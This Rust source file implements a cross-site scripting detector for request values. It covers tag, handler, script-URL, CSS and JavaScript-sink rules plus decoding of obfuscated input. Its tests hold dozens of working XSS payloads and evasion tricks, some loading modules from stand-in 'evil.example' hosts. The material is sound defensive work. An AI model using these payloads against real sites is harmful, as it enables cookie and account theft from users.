//! Cross-site scripting: markup and script constructs that make a browser run code.
//!
//! The value is first decoded the way a browser would before acting on it (HTML
//! character references, JavaScript escapes; URL decoding happened earlier). Then:
//! tags that execute or load code by themselves (`<script`, `<iframe`, `<svg`, ...),
//! any tag carrying an event-handler attribute, event handlers injected after an
//! attribute break-out (`" onmouseover=`), script URLs (`javascript:` with the
//! whitespace and control characters browsers ignore), HTML `data:` URLs, CSS
//! `expression(`, template-injection gadgets, and script sinks (`alert(`,
//! `document.cookie`, `eval(`) that reflected payloads use.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

/// Tags that run or load active content whatever their attributes.
const ACTIVE_TAGS: &[&str] = &[
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "meta",
    "base",
    "link",
    "style",
    "xml",
    "import",
    "isindex",
    "xss",
    "bgsound",
    "layer",
    "ilayer",
    "vmlframe",
    "handler",
    "listener",
    "template",
    "portal",
    "noscript",
    "plaintext",
    "xmp",
];

/// Literal triggers; each match is then checked by [`verify`].
const TRIGGERS: &[(&str, Trigger)] = &[
    ("<", Trigger::Tag),
    ("script:", Trigger::ScriptUrl),
    ("script&colon;", Trigger::ScriptUrl),
    ("data:", Trigger::DataUrl),
    ("expression", Trigger::Expression),
    ("-moz-binding", Trigger::Always("css binding")),
    ("behavior:", Trigger::Always("css behavior")),
    ("@import", Trigger::Always("css import")),
    ("srcdoc", Trigger::Attribute),
    ("formaction", Trigger::Attribute),
    ("xlink:href", Trigger::Attribute),
    ("on", Trigger::Handler),
    ("alert", Trigger::Sink),
    ("prompt", Trigger::Sink),
    ("confirm", Trigger::Sink),
    ("eval", Trigger::Sink),
    ("settimeout", Trigger::Sink),
    ("setinterval", Trigger::Sink),
    ("fromcharcode", Trigger::Sink),
    ("function", Trigger::Sink),
    ("atob", Trigger::Sink),
    ("document.cookie", Trigger::Always("document.cookie")),
    ("document.domain", Trigger::Always("document.domain")),
    ("document.write", Trigger::Always("document.write")),
    ("document.location", Trigger::Always("document.location")),
    ("window.location", Trigger::Always("window.location")),
    ("window.name", Trigger::Always("window.name")),
    ("innerhtml", Trigger::Always("innerHTML")),
    ("constructor", Trigger::Constructor),
    ("<!--#", Trigger::Always("server-side include")),
    ("url(javascript", Trigger::Always("css script url")),
    ("+adw-", Trigger::Always("utf-7 markup")),
    ("!entity", Trigger::Always("xml entity")),
    ("xi:include", Trigger::Always("xinclude")),
    ("call", Trigger::TaggedCall),
    ("apply", Trigger::TaggedCall),
    ("import", Trigger::Import),
    ("btoa", Trigger::Sink),
    ("![]", Trigger::JsFuck),
    ("document", Trigger::Global),
    ("window", Trigger::Global),
    ("self", Trigger::Global),
    ("top", Trigger::Global),
    ("parent", Trigger::Global),
    ("globalthis", Trigger::Global),
    ("frames", Trigger::Global),
];

#[derive(Clone, Copy, Debug)]
enum Trigger {
    Tag,
    ScriptUrl,
    DataUrl,
    Expression,
    Attribute,
    Handler,
    Sink,
    Constructor,
    /// `document`, `window`, `self`...: a property read the way injected script does.
    Global,
    /// JSFuck-style coercions (`(![]+[])[+!+[]]`).
    JsFuck,
    /// `.call` / `.apply` used as a template tag (`[].sort.call\`${alert}\``).
    TaggedCall,
    /// An ES module `import { x } from "..."` or a dynamic `import(`.
    Import,
    Always(&'static str),
}

/// The compiled scanner.
pub struct Scanner {
    triggers: AhoCorasick,
}

impl std::fmt::Debug for Scanner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("xss::Scanner").finish_non_exhaustive()
    }
}

impl Scanner {
    pub fn new() -> Result<Self, aho_corasick::BuildError> {
        let triggers = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(TRIGGERS.iter().map(|(p, _)| *p))?;
        Ok(Self { triggers })
    }

    /// Scan one value (URL-decoded; markup decoding happens here).
    pub fn scan(&self, text: &str) -> Option<(&'static str, usize)> {
        // Cheap exit: every rule needs one of these bytes somewhere.
        if !text.bytes().any(|b| {
            matches!(
                b,
                b'<' | b':' | b'(' | b'=' | b'&' | b'\\' | b'`' | b'.' | b'@' | b'[' | b'+' | b'!'
            )
        }) {
            return None;
        }
        let decoded = super::decode::markup(text);
        if let Some(hit) = self.scan_decoded(decoded.as_ref()) {
            return Some(hit);
        }
        // Browsers drop tabs and line breaks inside URL schemes and attribute names
        // (`java&#9;script:`, `v&newline;bscript:`): look again without them.
        if decoded.bytes().any(|b| matches!(b, b'\t' | b'\n' | b'\r')) {
            let squeezed: String = decoded
                .chars()
                .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
                .collect();
            if let Some(hit) = self.scan_decoded(&squeezed) {
                return Some(hit);
            }
        }
        // US-ASCII with the high bit ignored (old Tomcat/IIS charset handling):
        // `¼script¾` (0xBC, 0xBE) reaches the page as `<script>`.
        if decoded.contains(['\u{BC}', '\u{BE}']) {
            let folded: String = decoded
                .chars()
                .map(|c| match c {
                    '\u{BC}' => '<',
                    '\u{BE}' => '>',
                    '\u{A2}' => '"',
                    '\u{A7}' => '\'',
                    other => other,
                })
                .collect();
            return self.scan_decoded(&folded);
        }
        None
    }

    fn scan_decoded(&self, text: &str) -> Option<(&'static str, usize)> {
        let bytes = text.as_bytes();
        for m in self.triggers.find_overlapping_iter(text) {
            let Some((_, trigger)) = TRIGGERS.get(m.pattern().as_usize()) else {
                continue;
            };
            if let Some(reason) = verify(*trigger, bytes, m.start(), m.end()) {
                return Some((reason, m.start()));
            }
        }
        None
    }
}

fn lower(b: u8) -> u8 {
    b.to_ascii_lowercase()
}

fn at(bytes: &[u8], i: usize) -> u8 {
    bytes.get(i).copied().unwrap_or(0)
}

/// Skip characters a browser ignores inside a URL scheme or between tokens.
fn skip_ignorable(bytes: &[u8], mut i: usize) -> usize {
    while i < bytes.len() && matches!(at(bytes, i), b'\t' | b'\n' | b'\r' | b' ' | 0x0b | 0x0c | 0)
    {
        i += 1;
    }
    i
}

fn verify(trigger: Trigger, bytes: &[u8], start: usize, end: usize) -> Option<&'static str> {
    match trigger {
        // `/manual/document.cookie`: a path segment that names the property (a
        // file or page name), not script; `*/document.cookie` after a comment is.
        Trigger::Always(reason)
            if (reason.starts_with("document.") || reason.starts_with("window."))
                && start > 0
                && at(bytes, start - 1) == b'/'
                && (start < 2 || at(bytes, start - 2) != b'*') =>
        {
            None
        }
        Trigger::Always(reason) => Some(reason),
        Trigger::Tag => tag(bytes, end).or_else(|| spaced_tag(bytes, end)),
        Trigger::TaggedCall => {
            // `. call \``, `./**/call\``: blanks and comments around the dot.
            let before = bytes.get(..start).unwrap_or(&[]);
            let dot = before
                .iter()
                .rposition(|b| !b.is_ascii_whitespace())
                .and_then(|p| before.get(p))
                == Some(&b'.');
            let i = skip_comments(bytes, end);
            (dot && at(bytes, i) == b'`').then_some("tagged template call")
        }
        Trigger::Import => import(bytes, start, end),
        Trigger::ScriptUrl => script_url(bytes, start),
        Trigger::DataUrl => {
            let rest = bytes.get(end..).unwrap_or(&[]);
            let rest = &rest[..rest.len().min(40)];
            let lowered: Vec<u8> = rest.iter().map(|b| lower(*b)).collect();
            let html = [
                &b"text/html"[..],
                b"image/svg",
                b"application/xhtml",
                b"text/xml",
                b"application/x",
                b",alert",
                b"text/javascript",
                b"application/javascript",
            ]
            .iter()
            .any(|m| lowered.windows(m.len()).any(|w| w == *m));
            // `data:,<svg onload=...>`, `data: , <x>`: markup as the URL's payload,
            // whatever the (often omitted) media type says.
            let comma = rest.iter().position(|b| *b == b',');
            // The media type is empty or `type/subtype[;param]`, never prose.
            let markup_payload = comma.is_some_and(|c| {
                let after = skip_ignorable(rest, c + 1);
                let media = rest.get(..c).unwrap_or(&[]).trim_ascii();
                (media.is_empty() || media.contains(&b'/') || media.first() == Some(&b';'))
                    && !media.contains(&b' ')
                    && at(rest, after) == b'<'
                    && at(rest, after + 1).is_ascii_alphabetic()
            });
            (html || markup_payload).then_some("data: url")
        }
        Trigger::Expression => {
            let i = skip_comments(bytes, end);
            (at(bytes, i) == b'(' && css_context(bytes, start)).then_some("css expression")
        }
        Trigger::Attribute => {
            let i = skip_ignorable(bytes, end);
            (at(bytes, i) == b'=').then_some("active attribute")
        }
        Trigger::Handler => handler(bytes, start, end),
        Trigger::Sink => {
            if start > 0 && is_ident(at(bytes, start - 1)) {
                return None;
            }
            let i = skip_comments(bytes, end);
            let next = at(bytes, i);
            let word = bytes.get(start..end).unwrap_or(&[]);
            if word.eq_ignore_ascii_case(b"function") {
                // `new Function(...)` or `function(){`; "1 function (1)" is prose.
                let after = skip_ignorable(bytes, i + 1);
                let is_new = bytes
                    .get(..start)
                    .map(|b| b.trim_ascii_end())
                    .is_some_and(|b| b.len() >= 3 && b[b.len() - 3..].eq_ignore_ascii_case(b"new"));
                return (next == b'(' && (is_new || at(bytes, after) == b')'))
                    .then_some("script sink");
            }
            if next == b'('
                && i > end
                && bytes
                    .get(end..i)
                    .is_some_and(|gap| gap.iter().all(u8::is_ascii_whitespace))
            {
                // A blank before the parenthesis is how prose writes it
                // ("an alert (email)", "confirm (yes/no)"); script spaced
                // so still calls with code: a number, a string, `/re/`, `()`.
                let arg = at(bytes, skip_ignorable(bytes, i + 1));
                return (arg.is_ascii_digit() || matches!(arg, b'\'' | b'"' | b'`' | b')' | b'/'))
                    .then_some("script sink");
            }
            (next == b'(' || next == b'`').then_some("script sink")
        }
        Trigger::JsFuck => {
            let prev = if start == 0 { 0 } else { at(bytes, start - 1) };
            matches!(prev, b'!' | b'+' | b'(' | b'[').then_some("jsfuck")
        }
        Trigger::Global => global(bytes, start, end),
        Trigger::Constructor => {
            // `{{constructor.constructor('...')()}}`, `[].constructor.constructor`.
            let i = skip_ignorable(bytes, end);
            matches!(at(bytes, i), b'.' | b'(' | b'[').then_some("constructor gadget")
        }
    }
}

/// `document.cookie`, `document /*x*/ . cookie`, `(document)["cookie"]`,
/// `window["alert"]`, `self[/*x*/"alert"]`, `document.createElement(`.
fn global(bytes: &[u8], start: usize, end: usize) -> Option<&'static str> {
    if (start > 0 && is_ident(at(bytes, start - 1))) || is_ident(at(bytes, end)) {
        return None;
    }
    // A path segment (`/manual/document.cookie`) names a page, as above.
    if start > 0 && at(bytes, start - 1) == b'/' && (start < 2 || at(bytes, start - 2) != b'*') {
        return None;
    }
    let mut i = skip_comments(bytes, end);
    if at(bytes, i) == b')' {
        i = skip_comments(bytes, i + 1);
    }
    match at(bytes, i) {
        b'[' => {
            let j = skip_comments(bytes, i + 1);
            matches!(at(bytes, j), b'"' | b'\'' | b'`').then_some("global property access")
        }
        b'.' => {
            let j = skip_comments(bytes, i + 1);
            let mut k = j;
            while is_ident(at(bytes, k)) {
                k += 1;
            }
            let name = bytes.get(j..k).unwrap_or(&[]);
            const SINKS: &[&str] = &[
                "cookie",
                "domain",
                "write",
                "writeln",
                "location",
                "createelement",
                "body",
                "queryselector",
                "getelementbyid",
                "documentelement",
                "eval",
                "alert",
                "open",
                "localstorage",
                "sessionstorage",
                "name",
            ];
            let word = bytes.get(start..end).unwrap_or(&[]);
            // `top.` and `self.` followed by common names are too weak alone.
            let strong_object =
                word.eq_ignore_ascii_case(b"document") || word.eq_ignore_ascii_case(b"window");
            (strong_object
                && SINKS
                    .iter()
                    .any(|s| s.as_bytes().eq_ignore_ascii_case(name)))
            .then_some("global property access")
        }
        _ => None,
    }
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
}

fn skip_comments(bytes: &[u8], mut i: usize) -> usize {
    loop {
        i = skip_ignorable(bytes, i);
        if at(bytes, i) == b'/' && at(bytes, i + 1) == b'*' {
            let rest = bytes.get(i + 2..).unwrap_or(&[]);
            match rest.windows(2).position(|w| w == b"*/") {
                Some(p) => i = i + 2 + p + 2,
                None => return bytes.len(),
            }
        } else {
            return i;
        }
    }
}

/// `expression(` counts in a CSS declaration (`:expression(`, `style=...`).
fn css_context(bytes: &[u8], start: usize) -> bool {
    let before = bytes.get(..start).unwrap_or(&[]);
    let trimmed = before
        .iter()
        .rev()
        .find(|b| !b.is_ascii_whitespace() && **b != b'\\');
    matches!(trimmed, Some(b':' | b'=' | b'"' | b'\'' | b'{' | b';'))
}

/// Tag names that matter when spelled out with blanks (`<f o r m`): the active
/// tags plus the interactive elements payloads hang handlers on.
const SPELLED_TAGS: &[&str] = &[
    "form", "dialog", "marquee", "img", "image", "input", "body", "video", "audio", "details",
    "button", "select", "textarea", "keygen", "source", "animate", "set",
];

/// A tag name hidden from naive filters: letters separated by blanks (`<f o r m`,
/// `<d i a l o g`) or a blank-padded namespace prefix (`< x: script`). Browsers do
/// not parse these; filters that strip blanks, and XML parsers, do.
fn spaced_tag(bytes: &[u8], end: usize) -> Option<&'static str> {
    let mut i = skip_ignorable(bytes, end);
    let mut j = i;
    while at(bytes, j).is_ascii_alphanumeric() {
        j += 1;
    }
    let namespaced = j > i && at(bytes, j) == b':';
    if namespaced {
        i = skip_ignorable(bytes, j + 1);
    }
    let mut name = [0u8; 12];
    let mut len = 0;
    let mut tokens = 0;
    let mut single_letters = true;
    while at(bytes, i).is_ascii_alphabetic() {
        let word_start = i;
        while at(bytes, i).is_ascii_alphabetic() {
            *name.get_mut(len)? = lower(at(bytes, i));
            len += 1;
            i += 1;
        }
        tokens += 1;
        single_letters &= i - word_start == 1;
        if namespaced {
            break;
        }
        i = skip_ignorable(bytes, i);
    }
    let name = name.get(..len)?;
    let known = |list: &[&str]| list.iter().any(|t| t.as_bytes() == name);
    let spelled = !namespaced && single_letters && tokens >= 3;
    if (spelled && (known(ACTIVE_TAGS) || known(SPELLED_TAGS)))
        || (namespaced && known(ACTIVE_TAGS))
    {
        return Some("obfuscated tag");
    }
    None
}

/// `import { a } from "./x.js"`, `import * as m from '...'`, `import('//x')`: ES
/// module loading. "willing to import (and wait)" has a blank before `(` and no
/// `from` clause. The statement must start the value or follow script punctuation
/// (`";import ...`): prose quoting one ("use `import {x} from 'y'`") does not run.
fn import(bytes: &[u8], start: usize, end: usize) -> Option<&'static str> {
    if (start > 0 && is_ident(at(bytes, start - 1))) || is_ident(at(bytes, end)) {
        return None;
    }
    let before = bytes.get(..start).unwrap_or(&[]).trim_ascii_end();
    if !matches!(
        before.last(),
        None | Some(b';' | b'"' | b'\'' | b'>' | b'(' | b'{' | b'}' | b'=')
    ) {
        return None;
    }
    if at(bytes, end) == b'(' {
        return Some("dynamic import");
    }
    let i = skip_ignorable(bytes, end);
    let after_clause = match at(bytes, i) {
        b'{' => {
            let rest = bytes.get(i..).unwrap_or(&[]);
            let close = rest.iter().take(256).position(|b| *b == b'}')?;
            i + close + 1
        }
        b'*' => {
            let k = skip_ignorable(bytes, i + 1);
            if bytes.get(k..k + 2) != Some(b"as") {
                return None;
            }
            let mut k = skip_ignorable(bytes, k + 2);
            while is_ident(at(bytes, k)) {
                k += 1;
            }
            k
        }
        _ => return None,
    };
    let k = skip_ignorable(bytes, after_clause);
    if bytes.get(k..k + 4) != Some(b"from") {
        return None;
    }
    let q = skip_ignorable(bytes, k + 4);
    matches!(at(bytes, q), b'"' | b'\'' | b'`').then_some("module import")
}

/// `<` followed by a tag name: active tags always count; any other tag counts when
/// it carries an event handler or a script URL before it closes.
fn tag(bytes: &[u8], end: usize) -> Option<&'static str> {
    let mut i = end;
    if at(bytes, i) == b'/' {
        i += 1;
    }
    let name_start = i;
    while at(bytes, i).is_ascii_alphanumeric() || matches!(at(bytes, i), b':' | b'-' | b'_') {
        i += 1;
    }
    if i == name_start || !at(bytes, name_start).is_ascii_alphabetic() {
        // `<!`, `<?`, `<%`: declarations, processing instructions, server templates.
        return match (at(bytes, name_start), at(bytes, name_start + 1)) {
            (b'!', b'E' | b'e') | (b'!', b'[') => Some("markup declaration"),
            (b'?', b'i' | b'I')
                if bytes
                    .get(name_start + 1..name_start + 7)
                    .is_some_and(|w| w.eq_ignore_ascii_case(b"import")) =>
            {
                Some("xml import")
            }
            (b':', c) if c.is_ascii_alphabetic() => tag(bytes, name_start + 1),
            (b'%', _) if at(bytes, name_start + 1) == b'=' => Some("server template"),
            _ => None,
        };
    }
    let name = bytes.get(name_start..i).unwrap_or(&[]);
    // A namespaced tag (`x:script`) behaves as its local name in XHTML.
    let local = match name.iter().rposition(|b| *b == b':') {
        Some(p) => name.get(p + 1..).unwrap_or(&[]),
        None => name,
    };
    if ACTIVE_TAGS
        .iter()
        .any(|t| t.as_bytes().eq_ignore_ascii_case(local))
    {
        return Some("active tag");
    }
    // Look inside the tag (to `>` or a bounded distance) for handlers or script URLs.
    let limit = (i + 512).min(bytes.len());
    let inside = bytes.get(i..limit).unwrap_or(&[]);
    let close = inside
        .iter()
        .position(|b| *b == b'>')
        .unwrap_or(inside.len());
    let inside = inside.get(..close).unwrap_or(&[]);
    // Namespace declarations in markup embedded in a parameter (`q=<x xmlns=...`):
    // they switch injected markup into the XHTML or SVG namespace, or point
    // `xsi:schemaLocation` at a remote host. A whole XML document (value starting
    // with `<`) declares namespaces legitimately.
    let embedded = bytes
        .iter()
        .find(|c| !c.is_ascii_whitespace())
        .is_some_and(|c| *c != b'<');
    if embedded
        && inside.windows(6).any(|w| {
            w.get(..5).is_some_and(|x| x.eq_ignore_ascii_case(b"xmlns"))
                && matches!(w.get(5), Some(b'=' | b':'))
        })
    {
        return Some("namespace declaration");
    }
    let mut j = 0;
    while j + 2 < inside.len() {
        let prev = if j == 0 { b' ' } else { at(inside, j - 1) };
        if lower(at(inside, j)) == b'o'
            && lower(at(inside, j + 1)) == b'n'
            && matches!(
                prev,
                b' ' | b'/' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | 0x0c
            )
        {
            let mut k = j + 2;
            while at(inside, k).is_ascii_alphabetic() {
                k += 1;
            }
            if k > j + 3 && at(inside, skip_ignorable(inside, k)) == b'=' {
                return Some("event handler");
            }
        }
        j += 1;
    }
    None
}

/// `on<event>=` outside a tag: counts after a break-out from an attribute value
/// (`" onfocus=`, `' onload=`) or after whitespace or `/` when the name is a real
/// event; parameter names like `online=1` follow `&` or `?` and pass.
fn handler(bytes: &[u8], start: usize, end: usize) -> Option<&'static str> {
    let prev = if start == 0 { 0 } else { at(bytes, start - 1) };
    if is_ident(prev) {
        return None;
    }
    let mut k = end;
    while at(bytes, k).is_ascii_alphabetic() {
        k += 1;
    }
    if k < end + 3 {
        return None;
    }
    let eq = skip_ignorable(bytes, k);
    if at(bytes, eq) != b'=' {
        return None;
    }
    // `  onload= ...` at the very start of a value after blanks: an attribute
    // injected into an unquoted attribute context, whatever the event name.
    // Real event names are short (the longest, `onwebkitplaybacktargetavailability
    // changed`, has 39 letters after `on`).
    if start > 0
        && k - end <= 48
        && bytes
            .get(..start)
            .is_some_and(|b| b.iter().all(u8::is_ascii_whitespace))
    {
        return Some("event handler");
    }
    // `.../onafe=` inside a base64 token (signatures, tokens): `/` is a base64
    // digit there, not the end of a tag name.
    if prev == b'/' {
        let run = bytes
            .get(..start - 1)
            .unwrap_or(&[])
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/'))
            .count();
        if run >= 16 {
            return None;
        }
    }
    let name = bytes.get(end..k).unwrap_or(&[]);
    let quoted_break = matches!(prev, b'"' | b'\'' | b'`' | b'/')
        || (matches!(prev, b' ' | b'\t' | b'\n' | b'\r' | 0x0c) && {
            let before = bytes.get(..start).unwrap_or(&[]);
            before
                .iter()
                .rev()
                .find(|b| !b.is_ascii_whitespace())
                .is_some_and(|b| matches!(b, b'"' | b'\'' | b'/'))
        });
    if quoted_break || is_event(name) {
        // The value after `=` must look like script, not `on time=yes`.
        let v = skip_ignorable(bytes, eq + 1);
        let v = if matches!(at(bytes, v), b'"' | b'\'' | b'`') {
            v + 1
        } else {
            v
        };
        // A break-out handler with its value cut off (`"onzoom=` at the end) still
        // shows the intent.
        if (quoted_break && v >= bytes.len())
            || at(bytes, v).is_ascii_alphabetic()
            || matches!(
                at(bytes, v),
                b'(' | b'[' | b'_' | b'$' | b'{' | b'\\' | b'/'
            )
        {
            return Some("event handler");
        }
    }
    None
}

/// Event names browsers dispatch (a subset that covers the handlers payload lists use).
fn is_event(name: &[u8]) -> bool {
    const EVENTS: &[&str] = &[
        "abort",
        "activate",
        "afterprint",
        "animationend",
        "animationstart",
        "beforeprint",
        "beforeunload",
        "begin",
        "blur",
        "canplay",
        "change",
        "click",
        "contextmenu",
        "copy",
        "cut",
        "dblclick",
        "drag",
        "dragend",
        "dragenter",
        "dragleave",
        "dragover",
        "dragstart",
        "drop",
        "end",
        "error",
        "focus",
        "focusin",
        "focusout",
        "hashchange",
        "input",
        "invalid",
        "keydown",
        "keypress",
        "keyup",
        "load",
        "message",
        "mousedown",
        "mouseenter",
        "mouseleave",
        "mousemove",
        "mouseout",
        "mouseover",
        "mouseup",
        "mousewheel",
        "paste",
        "pageshow",
        "pointerdown",
        "pointerenter",
        "pointerover",
        "popstate",
        "readystatechange",
        "repeat",
        "reset",
        "resize",
        "scroll",
        "search",
        "select",
        "start",
        "submit",
        "toggle",
        "touchstart",
        "transitionend",
        "unload",
        "wheel",
        "finish",
        "bounce",
        "filterchange",
        "propertychange",
        "beforeactivate",
        "beforescriptexecute",
        "afterscriptexecute",
        "auxclick",
        "loadstart",
        "play",
        "playing",
        "timeupdate",
    ];
    EVENTS
        .iter()
        .any(|e| e.as_bytes().eq_ignore_ascii_case(name))
}

/// `javascript:`, `vbscript:`, `livescript:` with ignorable characters between the
/// letters (`java&#9;script:`, `jav\nascript:`). `start` is where `script` begins.
fn script_url(bytes: &[u8], start: usize) -> Option<&'static str> {
    // Walk back over the scheme prefix, skipping what browsers strip.
    let mut letters = [0u8; 4];
    let mut n = 0;
    let mut i = start;
    while i > 0 && n < 4 {
        i -= 1;
        let b = at(bytes, i);
        if matches!(b, b'\t' | b'\n' | b'\r' | 0) {
            continue;
        }
        if !b.is_ascii_alphabetic() {
            break;
        }
        if let Some(slot) = letters.get_mut(n) {
            *slot = lower(b);
        }
        n += 1;
    }
    let prefix: Vec<u8> = letters.iter().take(n).rev().copied().collect();
    let scheme_ok =
        prefix.ends_with(b"java") || prefix.ends_with(b"vb") || prefix.ends_with(b"live");
    if !scheme_ok {
        return None;
    }
    // What follows the colon must look like script: `alert(1)`, `//%0a...`, `void(0)`,
    // `a=1`; "javascript: the good parts" is a book title.
    let colon = bytes
        .get(start..)
        .and_then(|r| r.iter().position(|b| *b == b':'))
        .map_or(bytes.len(), |p| start + p + 1);
    let i = skip_ignorable(bytes, colon);
    let first = at(bytes, i);
    if i >= bytes.len() || !first.is_ascii_alphabetic() {
        return Some("script url");
    }
    let mut j = i;
    while is_ident(at(bytes, j)) {
        j += 1;
    }
    // Script continues after the first word (`alert(1)`, `MsgBox 1`); prose
    // continues with a blank and another word ("javascript: the good parts").
    let after = skip_ignorable(bytes, j);
    let prose = j < bytes.len() && after > j && at(bytes, after).is_ascii_alphabetic();
    (!prose).then_some("script url")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        Scanner::new().is_ok_and(|x| x.scan(s).is_some())
    }

    #[test]
    fn a_sink_named_in_prose_is_no_call() {
        for prose in [
            "msg=Please confirm (yes/no)",
            "msg=You will get an alert (email) when it ships",
            "q=prompt (AI) engineering course",
        ] {
            assert!(!hit(prose), "{prose}");
        }
        for attack in [
            "alert (1)",
            "confirm ('x')",
            "prompt (/xss/)",
            "alert(email)",
            "alert/**/(1)",
        ] {
            assert!(hit(attack), "{attack}");
        }
    }

    #[test]
    fn detects_payloads() {
        for attack in [
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "javascript:alert(document.cookie)",
            "\" onmouseover=\"alert(1)",
            "<div style=\"width: expression(alert(1))\">",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "{{constructor.constructor('alert(1)')()}}",
            "';alert(String.fromCharCode(88,83,83))//",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">",
            "<body onload=alert`1`>",
            "new Function('alert(1)')()",
            "a=(![]+[])[+!+[]]",
            "document /*foo*/ .     cookie",
            "javascript:/**/document.cookie",
            "window[\"alert\"](1)",
            "(document)[\"cookie\"]",
            "[].sort.call`${alert}1337`",
            "<a href=\"vbscript:MsgBox+1\">XSS</a>",
            "v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;alert(1)",
            "<?import implementation=",
            "<:vmlframe src=",
            "x=x:url(javascript",
            "+ADw-script+AD4-alert(1)",
            // Obfuscated tag names.
            "<f o r m",
            "bar<d i a l o g",
            "< x: script",
            // Handler injected into an unquoted attribute, any event name.
            "  onload= =vardata",
            "  onabcdefgh= x",
            // Markup as a data: URL payload, US-ASCII high-bit brackets.
            " data: , <x>",
            "data:,<svg onload=alert(1)>",
            "\\xbcscript\\xbealert(1)\\xbc/script\\xbe",
            // Module loading, spaced tagged templates, embedded namespaces.
            "import { sayHi, sayBye } from \"./greeting.js\";",
            "import * as m from 'https://evil.example/x.js'",
            "import('//evil.example/x.js')",
            "[  ] . sort . call ` ${ alert } 1337 `",
            "[ 1234 ]. map . call`${eval}`",
            "var=<aai xmlns=\"http://a.b/\" xsi:schemaLocation=\"http://a.b/ http://x.example/a.xsd\">",
        ] {
            assert!(hit(attack), "missed {attack:?}");
        }
    }

    #[test]
    fn passes_ordinary_text() {
        for benign in [
            "a < b and c > d",
            "rock &amp; roll",
            "online=true&only=1",
            "I <3 cats",
            "see https://example.com/a?b=c",
            "<b>bold</b> text",
            "email me at a@b.c",
            "on time delivery",
            "function of x",
            "1 function (1)",
            "q=javascript: the good parts",
            "my expression is fine",
            "data: 5 items",
            // Ends right after a handler-like word: once looped past the end.
            "a onclick",
            "self-service top deals",
            "window seat",
            "document.pdf",
            "x on",
            // Neighbours of the rules above.
            "a <b c d",
            "I <3 u",
            "x < s c",
            "if you're willing to import (and perhaps wait)",
            "import duties from China",
            "recall`s",
            "data: 5 items, <none>",
            "sign=VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=",
            "<?xml version=\"1.0\"?><root xmlns=\"urn:x\"><a>1</a></root>",
            "  online now",
            "/get/javascript-manual/document.cookie",
            "\u{BC} cup sugar",
        ] {
            assert!(!hit(benign), "flagged {benign:?}");
        }
    }
}
